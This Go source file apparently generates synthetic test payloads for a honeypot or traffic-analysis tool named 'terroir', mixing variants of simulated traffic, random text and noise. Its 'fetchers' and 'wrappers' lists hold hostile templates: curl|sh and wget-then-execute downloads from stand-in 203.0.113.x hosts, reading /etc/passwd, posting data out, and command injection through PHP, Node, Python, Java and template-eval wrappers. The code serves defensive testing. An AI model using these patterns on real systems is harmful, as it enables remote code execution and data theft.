package main

import (
	"bytes"
	"context"
	"fmt"
	"math/rand/v2"
	"net/netip"

	"terroir"
	"terroir/payload"
	"terroir/simulate"
)

// sent is a payload and to whom it was sent.
type sent struct {
	bytes, cargo []byte
	transport    terroir.Transport
	self         payload.Self
}

// distinct makes n different payloads: six of ten are variants of the simulated week's, two commands in a wrapper, one text, one noise.
func distinct(n int) ([]sent, error) {
	week, err := simulated()
	if err != nil {
		return nil, err
	}
	r := rand.New(rand.NewPCG(6, 7))
	seen := map[terroir.PayloadID]bool{}
	list := make([]sent, 0, n)
	for len(list) < n {
		var s sent
		switch k := r.IntN(10); {
		case k < 6:
			s = vary(r, week[r.IntN(len(week))])
		case k < 8:
			s = command(r)
		case k < 9:
			s = sent{bytes: text(r), transport: terroir.TCP}
		default:
			s = sent{bytes: noise(r), transport: terroir.TCP}
		}
		if id := terroir.NewPayloadID(s.bytes); !seen[id] {
			seen[id] = true
			list = append(list, s)
		}
	}
	return list, nil
}

func simulated() (list []sent, err error) {
	w, err := simulate.New(simulate.Options{})
	if err != nil {
		return nil, err
	}
	seen := map[terroir.PayloadID]bool{}
	err = w.Events(context.Background(), func(r terroir.Record, _ simulate.Label) error {
		if id := r.Event.Payload; r.Event.Kind == terroir.KindPayload && !seen[id] {
			seen[id] = true
			list = append(list, sent{r.Payload, nil, r.Event.Transport, payload.Self{Addrs: []netip.Addr{r.Event.Destination.Addr()}}})
		}
		return nil
	})
	return list, err
}

var names = []string{"tmp", "admin", "wp", "cgi-bin", "x", "solr", "api", "login", "shell", "setup", "boaform", "hudson", "actuator", "env", "portal", "vpn"}

func name(r *rand.Rand) string {
	if r.IntN(3) > 0 {
		return names[r.IntN(len(names))]
	}
	return string(letters(r, 3+r.IntN(8)))
}

func letters(r *rand.Rand, n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = 'a' + byte(r.IntN(26))
	}
	return b
}

// vary changes digits of a text, sometimes names, sometimes single bytes.
func vary(r *rand.Rand, s sent) sent {
	b := bytes.Clone(s.bytes)
	for i, c := range b {
		if c >= '0' && c <= '9' && r.IntN(2) == 0 && (i == 0 || b[i-1] != '$' && b[i-1] != '*') {
			b[i] = '0' + byte(r.IntN(10))
		}
	}
	switch r.IntN(4) {
	case 0:
		b = bytes.Replace(b, []byte(" /"), []byte(" /"+name(r)+"/"), 1)
	case 1:
		b = append(b, letters(r, 1+r.IntN(12))...)
	case 2:
		if len(b) > 0 {
			b[r.IntN(len(b))] ^= byte(1 << r.IntN(8))
		}
	}
	s.bytes = b
	return s
}

var fetchers = []string{"curl -fsSL %s", "wget -qO- %s", "cd /tmp; wget %s; chmod 777 x; ./x", "busybox wget %s -O /tmp/x && sh /tmp/x", "curl %s|sh", "cat /etc/passwd; curl %s",
	"ls -la /var; curl -d @- %s", "(curl -s %s||true)|bash"}

var wrappers = []string{"process.mainModule.require('child_process').execSync('%s').toString()", "<?php system('%s'); ?>", "import os; os.system('%s')",
	"T(java.lang.Runtime).getRuntime().exec('%s')", "${@print(eval('%s'))}", "; %s #"}

// command is an exploit's body around a command.
func command(r *rand.Rand) sent {
	c := ""
	for range 1 + r.IntN(3) {
		url := fmt.Sprintf("http://203.0.113.%d:%d/%s/%s.sh", r.IntN(256), r.IntN(65536), name(r), letters(r, 5))
		c += fmt.Sprintf(fetchers[r.IntN(len(fetchers))], url) + "; " + name(r) + " -" + string(letters(r, 2)) + "; "
	}
	body := fmt.Sprintf(wrappers[r.IntN(len(wrappers))], c) + fmt.Sprintf("//%s %d", name(r), r.IntN(1000))
	return sent{bytes: []byte(body), cargo: []byte(c), transport: terroir.TCP}
}

func text(r *rand.Rand) []byte {
	var b []byte
	for range 2 + r.IntN(30) {
		b = fmt.Appendf(b, "%s=%d ", name(r), r.IntN(1e6))
	}
	return append(b, '\n')
}

func noise(r *rand.Rand) []byte {
	b := make([]byte, 16+r.IntN(400))
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}
